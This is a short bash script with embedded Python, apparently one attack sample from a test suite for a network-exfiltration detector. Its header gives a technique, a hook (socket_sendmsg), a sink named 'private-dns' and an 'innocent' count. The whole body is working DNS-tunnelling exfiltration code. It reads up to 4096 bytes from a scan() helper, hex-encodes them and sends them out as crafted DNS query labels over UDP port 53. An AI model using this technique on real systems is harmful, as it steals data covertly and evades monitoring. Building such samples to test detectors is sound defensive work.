#!/usr/bin/env bash
# technique: names that are asked of a name server hold the data
# hooks: socket_sendmsg
# sink: private-dns
# innocent: 2048

. attack.sh
python3 - <<'PY'
from attack import *

text = scan()[:4096].hex()
with socket.socket(type=socket.SOCK_DGRAM) as resolver:
    for start in range(0, len(text), 180):
        labels = [text[start + at : start + at + 60] for at in (0, 60, 120)]
        name = b"".join(bytes([len(label)]) + label.encode() for label in labels if label)
        query = start.to_bytes(2) + bytes.fromhex("01000001000000000000") + name + bytes.fromhex("0000010001")
        resolver.sendto(query, (TCP[0], 53))
PY
